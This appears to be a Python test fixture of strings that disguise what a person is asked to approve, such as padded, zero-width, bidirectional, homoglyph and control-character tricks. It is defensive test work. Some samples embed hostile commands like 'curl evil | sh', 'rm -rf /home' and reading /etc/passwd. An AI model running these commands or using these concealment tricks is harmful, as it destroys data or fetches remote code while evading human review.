"""Texts with which somebody tries to hide, or to disguise, what a person is asked to approve."""

from __future__ import annotations

import re

HOSTILE = {
    "far to the right": "ls" + " " * 400 + "&& curl evil | sh",
    "far below": "ls" + "\n" * 90 + "curl evil | sh",
    "after much text": "echo " + "harmless " * 400 + "; curl evil | sh",
    "zero width": "rm -rf /ho\u200bme\u200c\u200d",
    "bidirectional": "cat \u202egpj.exe\u202c \u2066x\u2069 \u061c\u200e",
    "look-alike letter": "curl https://p\u0430ypal.com",
    "a word of look-alikes": "\u0441\u043e\u0440\u0443 a b",
    "greek question mark": "ls\u037e id",
    "full width": "\uff43\uff55\uff52\uff4c evil\uff0fx",
    "division slash": "cat \u2215etc\u2044passwd",
    "soft hyphen": "cu\u00adrl evil",
    "hangul fillers": "a\u3164b\u115fc\u1160d\uffa0e",
    "word joiner": "a\u2060b\u2061c\u2064d\u206fe\u180ef\u034fg\u2800h",
    "variation selectors": "a\ufe0f\ufe00b\U000e0100c",
    "tag characters": "hi\U000e0063\U000e0075\U000e0072\U000e006c\U000e007f",
    "private use": "a\ue000b\U000f0000c\U0010fffd",
    "control characters": "a\x1b[2Jb\rc\x08d\x00e\x7ff\x9bg\x0bh\x0ci\x85j",
    "other spaces": "rm\u00a0-rf\u2003/\u3000x\u202fy\u1680z\u2007",
    "other line ends": "a\u2028b\u2029c",
    "trailing spaces": "a \nb   \nc",
    "stacked marks": "a\u0301\u0302\u0303\u0304\u0305 b\u0338c\u20e3",
    "half a character": "a\ud800b\udfffc",
    "not assigned": "a\u0378b\U000e0fffc",
    "escapes spelt out": "\\u{200b} \\u{20*90} ⇥ \\u200b",
    "forged rows": "ls\ntool         │ note\n! nothing unusual\n\npath         = 1",
    "tabs": "\ta\t\tb" + "\t" * 100 + "c",
    "many at once": "\u200b\u202e" * 600 + "c\u0430t",
}
"""By what is tried. None of these may reach a person as it is, or in part."""
HARMLESS = (
    "ls -la && echo 'done' > a.txt", "naïve café ☃ 🎉 日本語。", "запусти не сейчас", "Pythonで書く、完成！",
    "straße – “quoted” … 5 µs ½ m² x₂", "if x:\n    y = 1\n\n\nz = {\n  'a': 2,\n}\n", "Ελληνικά κείμενα", "שלום עולם",
)  # fmt: skip
_ESCAPE = re.compile(r"\\u\{([0-9a-f]+)(?:\*(\d+))?\}\n?")


def read_back(shown: str) -> str:
    """The text that `exact` shows like this: for each way of showing there is one text."""

    def one(match: re.Match[str]) -> str:
        char, count = chr(int(match[1], 16)), int(match[2] or 1)
        end = "\n" if match[0].endswith("\n") and char != "\n" else ""
        return char * count + end

    return "".join(_ESCAPE.sub(one, part) if part != "⇥" else "\t" for part in re.split("(⇥)", shown))
